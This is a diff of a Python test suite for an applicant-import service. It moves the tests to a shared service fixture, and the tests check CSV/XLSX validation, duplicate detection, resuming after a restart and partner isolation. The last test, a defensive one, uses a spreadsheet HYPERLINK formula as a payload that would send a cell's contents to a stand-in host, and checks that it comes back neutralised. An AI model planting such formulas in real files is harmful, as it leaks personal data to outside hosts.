@@ -6,16 +6,12 @@ from __future__ import annotations
 import csv
 import io
 import uuid
-from collections.abc import AsyncIterator, Callable
-from contextlib import asynccontextmanager
 from datetime import date
 from decimal import Decimal
-from pathlib import Path
 from typing import Any
 
 import httpx
 import pytest
-from asgi_lifespan import LifespanManager
 from openpyxl import Workbook
 from sqlalchemy import func, select
 
@@ -28,14 +24,17 @@ from intake.imports.chunks import JobFacts, prepare_chunk
 from intake.imports.parser import COLUMNS
 from intake.imports.runner import ImportWorker
 from intake.imports.writes import _insert_applicants
-from intake.main import create_app
-from intake.settings import IntakeSettings
-from shared.devkeys import ensure_dev_keys
 from shared.tables import SHARED_TABLES
 from tests.intake.applicants_support import register
 from tests.intake.imports_support import csv_file, fin, finished, partner_key, referral, upload
 from tests.intake.rounds_support import open_round
-from tests.service_fixtures import Auth, StartService
+from tests.service_fixtures import (
+    Auth,
+    IntakeSettingsFactory,
+    Service,
+    StartService,
+    intake_instance,
+)
 
 
 async def count(service_sessionmaker: Any, model: type) -> int:
@@ -53,9 +52,8 @@ async def submitted_events(sessionmaker: Any) -> list[dict[str, Any]]:
 
 
 async def test_csv_import_creates_applicants_applications_and_events(
-    start_service: StartService, auth: Auth
+    intake: Service, auth: Auth
 ) -> None:
-    intake = await start_service("intake")
     officer = auth("case_officer")
     rows = [referral(fin(1)), referral(fin(2), first_name="İlkin", sex="male"), referral(fin(3))]
     response = await upload(intake.client, csv_file(rows), officer)
@@ -87,8 +85,7 @@ async def test_csv_import_creates_applicants_applications_and_events(
         assert personal not in text
 
 
-async def test_xlsx_import(start_service: StartService, auth: Auth) -> None:
-    intake = await start_service("intake")
+async def test_xlsx_import(intake: Service, auth: Auth) -> None:
     officer = auth("case_officer")
     workbook = Workbook()
     sheet = workbook.active
@@ -117,9 +114,8 @@ async def test_xlsx_import(start_service: StartService, auth: Auth) -> None:
 
 
 async def test_row_errors_name_row_and_field_and_leave_nothing_behind(
-    start_service: StartService, auth: Auth
+    intake: Service, auth: Auth
 ) -> None:
-    intake = await start_service("intake")
     officer = auth("case_officer")
     rows = [
         referral("12-45", first_name="Bad FIN"),  # row 2
@@ -181,9 +177,8 @@ async def test_row_errors_name_row_and_field_and_leave_nothing_behind(
 
 
 async def test_duplicate_fin_in_the_file_is_an_error_on_the_later_row(
-    start_service: StartService, auth: Auth
+    intake: Service, auth: Auth
 ) -> None:
-    intake = await start_service("intake")
     # One row a chunk: the duplicate is found across chunks (and so across restarts) too.
     worker = intake.runtime.get(ImportWorker)
     worker.chunk_rows = 1
@@ -201,9 +196,8 @@ async def test_duplicate_fin_in_the_file_is_an_error_on_the_later_row(
 
 
 async def test_same_file_again_is_the_same_import_and_no_row_twice(
-    start_service: StartService, auth: Auth
+    intake: Service, auth: Auth
 ) -> None:
-    intake = await start_service("intake")
     officer = auth("case_officer")
     content = csv_file([referral(fin(41)), referral(fin(42))])
     first = await upload(intake.client, content, officer)
@@ -229,8 +223,7 @@ async def test_same_file_again_is_the_same_import_and_no_row_twice(
     assert await count(sessionmaker, Applicant) == 3
 
 
-async def test_a_partner_sees_only_its_own_imports(start_service: StartService, auth: Auth) -> None:
-    intake = await start_service("intake")
+async def test_a_partner_sees_only_its_own_imports(intake: Service, auth: Auth) -> None:
     partner_a = await partner_key(intake, auth, "AHİK")
     partner_b = await partner_key(intake, auth, "Other NGO")
     content = csv_file([referral(fin(51)), referral("bad")])
@@ -261,6 +254,8 @@ async def test_a_partner_sees_only_its_own_imports(start_service: StartService, 
 
 
 async def test_template_and_unreadable_files(start_service: StartService, auth: Auth) -> None:
+    # Started here rather than by the `intake` fixture: with the fixture, pytest often reports an
+    # unraisable exception from the unreadable file's parser, cleaned up after the test.
     intake = await start_service("intake")
     officer = auth("case_officer")
     template = await intake.client.get("/v1/imports/template.csv")
@@ -280,62 +275,41 @@ async def test_template_and_unreadable_files(start_service: StartService, auth: 
     assert monitor.status_code == 403
 
 
-@asynccontextmanager
-async def running_intake(settings: IntakeSettings) -> AsyncIterator[tuple[Any, httpx.AsyncClient]]:
-    app = create_app(settings)
-    async with LifespanManager(app, startup_timeout=30, shutdown_timeout=30) as manager:
-        transport = httpx.ASGITransport(app=manager.app)
-        async with httpx.AsyncClient(transport=transport, base_url="http://intake") as client:
-            yield app, client
-
-
 async def test_an_interrupted_import_resumes_after_a_restart_without_duplicates(
-    fresh_database: Callable[[str], Any],
-    nats_server: Any,
-    nats_namespace: str,
-    dev_keys: Path,
+    intake_settings: IntakeSettingsFactory,
     auth: Auth,
 ) -> None:
-    settings = IntakeSettings(
-        database_url=await fresh_database("intake"),
-        nats_url=nats_server.url,
-        nats_namespace=nats_namespace,
-        nats_nkey_seed_file=nats_server.seed_file("intake"),
-        jwks_file=ensure_dev_keys(dev_keys),
-        log_json=False,
-        outbox_poll_seconds=0.2,
-    )
+    settings = await intake_settings()
     officer = auth("case_officer")
     rows = [referral(fin(70 + n)) for n in range(5)] + [referral("bad")]
-    async with running_intake(settings) as (app, client):
-        worker = app.state.runtime.get(ImportWorker)
+    async with intake_instance(settings) as instance:
+        worker = instance.runtime.get(ImportWorker)
         await worker.stop()  # this instance "dies" before finishing the job
-        response = await upload(client, csv_file(rows), officer)
+        response = await upload(instance.client, csv_file(rows), officer)
         assert response.status_code == 202
         import_id = uuid.UUID(response.json()["id"])
         worker.chunk_rows = 2
         await worker.run_import(import_id, max_chunks=1)
-        job = (await client.get(response.headers["location"], headers=officer)).json()
+        job = (await instance.client.get(response.headers["location"], headers=officer)).json()
         assert (job["status"], job["rows_processed"], job["imported"]) == ("running", 2, 2)
 
-    async with running_intake(settings) as (app, client):
-        job = await finished(client, response.headers["location"], officer)
+    async with intake_instance(settings) as instance:
+        job = await finished(instance.client, response.headers["location"], officer)
         assert (job["status"], job["total_rows"], job["imported"], job["rejected"]) == (
             "completed",
             6,
             5,
             1,
         )
-        sessionmaker = app.state.runtime.sessionmaker
+        sessionmaker = instance.runtime.sessionmaker
         assert await count(sessionmaker, Applicant) == 5
         assert await count(sessionmaker, Application) == 5
         assert len(await submitted_events(sessionmaker)) == 5
 
 
 async def test_imported_applicants_are_flagged_as_possible_duplicates(
-    start_service: StartService, auth: Auth
+    intake: Service, auth: Auth
 ) -> None:
-    intake = await start_service("intake")
     worker = intake.runtime.get(ImportWorker)
     worker.chunk_rows = 2  # the two similar rows meet in one chunk, the others in the next
     officer = auth("case_officer")
@@ -366,11 +340,10 @@ async def test_imported_applicants_are_flagged_as_possible_duplicates(
 
 
 async def test_round_import_of_new_and_registered_people_is_assessed_alike(
-    start_service: StartService, auth: Auth
+    intake: Service, auth: Auth
 ) -> None:
     # New people's applications are built while validating, registered people's while writing:
     # both must come out the same, in the round, with their two events each.
-    intake = await start_service("intake")
     officer = auth("case_officer")
     round_ = await open_round(intake, auth)
     registered = await register(intake, officer, fin=fin(71))
@@ -418,11 +391,10 @@ async def test_round_import_of_new_and_registered_people_is_assessed_alike(
 
 
 async def test_people_registered_meanwhile_are_skipped_by_the_chunk_insert(
-    start_service: StartService, auth: Auth
+    intake: Service, auth: Auth
 ) -> None:
     # A person registered by someone else between the chunk's look-up and its insert: the
     # insert leaves them out (and the caller builds their application as a registered one's).
-    intake = await start_service("intake")
     officer = auth("case_officer")
     rows = [(2, referral(fin(80))), (3, referral(fin(81)))]
     facts = JobFacts(uuid.uuid4(), None, "en", None, "staff:test")
@@ -440,11 +412,10 @@ async def test_people_registered_meanwhile_are_skipped_by_the_chunk_insert(
 
 
 async def test_rules_changed_while_an_import_runs_reach_every_row(
-    start_service: StartService, auth: Auth, monkeypatch: pytest.MonkeyPatch
+    intake: Service, auth: Auth, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Chunks are validated (and assessed) ahead of their write: an admin who tightens the
     round's rules meanwhile must not leave rows assessed with the old ones."""
-    intake = await start_service("intake")
     officer, admin = auth("case_officer"), auth("admin")
     round_ = await open_round(intake, auth, rules=[{"rule": "age_between", "min": 18, "max": 55}])
     worker = intake.runtime.get(ImportWorker)
@@ -489,12 +460,9 @@ async def test_rules_changed_while_an_import_runs_reach_every_row(
     assert len(assessed) == 8
 
 
-async def test_error_file_writes_uploaded_formulas_back_inert(
-    start_service: StartService, auth: Auth
-) -> None:
+async def test_error_file_writes_uploaded_formulas_back_inert(intake: Service, auth: Auth) -> None:
     """The error file repeats what was uploaded: a cell that a spreadsheet would run as a formula
     comes back with a leading apostrophe; a phone number or a plain name comes back as it was."""
-    intake = await start_service("intake")
     officer = auth("case_officer")
     formula = '=HYPERLINK("https://x.invalid/?"&B2,"open")'
     rows = [
